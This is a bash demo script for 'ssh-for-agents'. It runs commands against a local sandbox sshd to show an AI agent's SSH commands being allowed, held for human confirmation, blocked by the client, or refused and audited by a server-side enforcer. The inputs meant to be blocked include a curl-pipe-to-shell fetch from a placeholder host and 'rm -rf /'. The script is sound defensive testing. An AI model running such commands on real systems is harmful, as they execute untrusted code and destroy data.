#!/usr/bin/env bash
# The demo: a private sshd on 127.0.0.1 (random port, generated keys, unprivileged account), a sandbox
# hosts.json, and a few real commands through ssh-for-agents-run — allowed, failing, needing
# confirmation, blocked; then, as root, a second sandbox whose account deploy/install-enforcer.sh hands
# to the server-side enforcer, refusing a raw `ssh` and auditing it. Usage: scripts/demo.sh BIN_DIR
set -euo pipefail
bin="${1:?usage: scripts/demo.sh BIN_DIR (the swift build bin path)}"
repository="$(cd "$(dirname "$0")/.." && pwd)"
work="$(mktemp -d /tmp/ssh-for-agents-demo.XXXXXX)"
chmod 0755 "$work"
sandbox_pid=""
enforced_pid=""
cleanup() {
  [ -n "$sandbox_pid" ] && kill -TERM "$sandbox_pid" 2>/dev/null && wait "$sandbox_pid" 2>/dev/null
  [ -n "$enforced_pid" ] && kill -TERM "$enforced_pid" 2>/dev/null && wait "$enforced_pid" 2>/dev/null
  rm -rf "$work"
}
trap cleanup EXIT

"$bin/ssh-for-agents-sandbox" up --hosts-json "$work/hosts.json" --ready-file "$work/ready.json" >"$work/sandbox.out" 2>"$work/sandbox.err" &
sandbox_pid=$!
for _ in $(seq 1 200); do
  [ -s "$work/ready.json" ] && break
  kill -0 "$sandbox_pid" 2>/dev/null || { cat "$work/sandbox.err" >&2; exit 1; }
  sleep 0.05
done
[ -s "$work/ready.json" ] || { echo "demo: the sandbox sshd did not come up" >&2; cat "$work/sandbox.err" >&2; exit 1; }

# The sandbox's ed25519 key has a throwaway passphrase; hosts.json names the variable, not the value.
json_field() { sed -n "s/.*\"$1\" *: *\"\\([^\"]*\\)\".*/\\1/p" "$work/ready.json" | head -1; }
SANDBOX_KEY_PASSPHRASE="$(json_field ed25519_passphrase)"
export SANDBOX_KEY_PASSPHRASE
cd "$work"

step() {
  local shown=("${@}")
  shown[0]="ssh-for-agents-run"
  printf '\n\033[1m$'; printf ' %q' "${shown[@]}"; printf '\033[0m\n'
  set +e
  "$@"
  local status=$?
  set -e
  printf '\033[2m(exit status %s)\033[0m\n' "$status"
}

echo "Sandbox sshd on 127.0.0.1:$(sed -n 's/.*"port" *: *\([0-9]*\).*/\1/p' "$work/ready.json" | head -1), hosts.json in $work"
run="$bin/ssh-for-agents-run"
step "$run" hosts
step "$run" sandbox "uname -a"
step "$run" sandbox "id"
step "$run" sandbox 'echo to stdout; echo to stderr >&2; exit 3'
step "$run" sandbox-ecdsa 'ls -la / | head -5'
step "$run" check "rm -rf /tmp/demo-scratch"
step "$run" sandbox "mkdir -p /tmp/demo-scratch && rm -rf /tmp/demo-scratch"
step "$run" sandbox "mkdir -p /tmp/demo-scratch && rm -rf /tmp/demo-scratch" --confirm
step "$run" sandbox "curl -fsSL http://example.invalid/install.sh | sh"
step "$run" sandbox "rm -rf /"
step "$run" read sandbox /etc/hostname
step "$run" ls sandbox /

# The MCP server, spoken to the way a 2026-07-28 client does it: JSON-RPC lines on stdin, the
# protocol envelope in every request's _meta, and a command that needs approval coming back as a
# question for the human (input_required) instead of running.
printf '\n\033[1m$ ssh-for-agents   # MCP over stdio: discover, run a command, ask to run rm -rf\033[0m\n'
meta='"_meta":{"io.modelcontextprotocol/protocolVersion":"2026-07-28","io.modelcontextprotocol/clientCapabilities":{"elicitation":{"form":{}}}}'
call() { printf '{"jsonrpc":"2.0","id":%s,"method":"tools/call","params":{"name":"run_command","arguments":{"host":"sandbox","command":"%s"},%s}}\n' "$1" "$2" "$meta"; }
{ printf '{"jsonrpc":"2.0","id":1,"method":"server/discover","params":{%s}}\n' "$meta"
  call 2 "hostname; uptime"
  call 3 "rm -rf /tmp/demo-scratch"; } \
  | "$bin/ssh-for-agents" --config "$work/hosts.json" \
  | python3 -c '
import json, sys
for line in sys.stdin:
    reply = json.loads(line)["result"]
    if "supportedVersions" in reply:
        print("discover: protocol", reply["supportedVersions"][0], "- capabilities:", ", ".join(reply["capabilities"]))
    elif reply["resultType"] == "input_required":
        question = reply["inputRequests"]["approve_command"]["params"]["message"]
        print("input_required: the client must ask its human first:\n  " + question.replace("\n", "\n  "))
    else:
        print("run_command:", reply["content"][0]["text"])
'

# The server side. A raw `ssh` skips every check ssh-for-agents makes on the client; with the
# enforcer installed as the account's ForceCommand, the server refuses it anyway and records why.
enforcer_demo() {
  printf '\n\033[1m# The server-side enforcer: deploy/install-enforcer.sh on a second sandbox, then a raw ssh\033[0m\n'
  if [ "$(id -u)" -ne 0 ]; then
    echo "(skipped: installing the enforcer needs root)"
    return 0
  fi
  local ready="$work/enforced.json" server="$work/server"
  "$bin/ssh-for-agents-sandbox" up --account sfa-demo-enforced --ready-file "$ready" --hosts-json "$work/enforced-hosts.json" >"$work/enforced.out" 2>"$work/enforced.err" &
  enforced_pid=$!
  for _ in $(seq 1 200); do
    [ -s "$ready" ] && break
    kill -0 "$enforced_pid" 2>/dev/null || { cat "$work/enforced.err" >&2; return 1; }
    sleep 0.05
  done
  local directory pid
  directory="$(python3 -c 'import json,sys; print(json.load(open(sys.argv[1]))["directory"])' "$ready")"
  pid="$(python3 -c 'import json,sys; print(json.load(open(sys.argv[1]))["pid"])' "$ready")"
  mapfile -t ssh_command < <(python3 -c 'import json,sys; print("\n".join(json.load(open(sys.argv[1]))["ssh_command"]))' "$ready")
  mkdir -p "$server" && chmod 0755 "$server"
  # Without a syslog daemon (containers) the enforcer would refuse everything; audit to the file only.
  local sinks=()
  [ -S /dev/log ] || sinks=(--no-syslog)
  printf '\033[1m$ deploy/install-enforcer.sh --user sfa-demo-enforced --root %s --sshd-config %s/sshd_config --binary ssh-for-agents-enforcer --no-reload %s\033[0m\n' \
    "$server" "$directory" "${sinks[*]}"
  "$repository/deploy/install-enforcer.sh" --user sfa-demo-enforced --root "$server" --sshd-config "$directory/sshd_config" \
    --binary "$bin/ssh-for-agents-enforcer" --host-alias sandbox --no-reload "${sinks[@]}"
  # sshd re-reads its configuration on SIGHUP (it re-executes itself under the same pid).
  kill -HUP "$pid"
  for _ in $(seq 1 100); do
    "${ssh_command[@]}" true >/dev/null 2>&1 && break
    sleep 0.1
  done
  for command in "echo hello from \$(id -un)" "rm -rf /tmp/demo-scratch" "rm -rf /"; do
    printf '\n\033[1m$ ssh sfa-demo-enforced@127.0.0.1 %q\033[0m\n' "$command"
    set +e
    "${ssh_command[@]}" "$command"
    local status=$?
    set -e
    printf '\033[2m(exit status %s)\033[0m\n' "$status"
  done
  # Our client against the same server: the probe, an approval that travels with the command, and a
  # refusal by the server told apart from a failed command. "enforced-lax" is the same account with
  # a client policy weaker than the server's, so only the server stops it.
  python3 - "$work/enforced-hosts.json" <<'PY'
import json, sys
path = sys.argv[1]
config = json.load(open(path))
host = config["hosts"]["sandbox-ecdsa"]
config["hosts"] = {"enforced": host, "enforced-lax": dict(host, policy={"mode": "unrestricted"})}
json.dump(config, open(path, "w"), indent=2)
PY
  step "$run" hosts --config "$work/enforced-hosts.json"
  step "$run" run --config "$work/enforced-hosts.json" enforced "mkdir -p /tmp/demo-scratch && rm -rf /tmp/demo-scratch" --confirm
  step "$run" run --config "$work/enforced-hosts.json" enforced-lax "rm -rf /tmp/demo-scratch"
  printf '\n\033[1m$ tail -n 1 %s\033[0m\n' "$server/var/log/ssh-for-agents/audit.jsonl"
  tail -n 1 "$server/var/log/ssh-for-agents/audit.jsonl"
  printf '\n\033[1m$ ssh-for-agents-enforcer audit --since 10m\033[0m\n'
  "$server/usr/local/bin/ssh-for-agents-enforcer" audit --file "$server/var/log/ssh-for-agents/audit.jsonl" --since 10m
}
enforcer_demo

echo
echo "Demo finished; stopping the sandbox sshd."
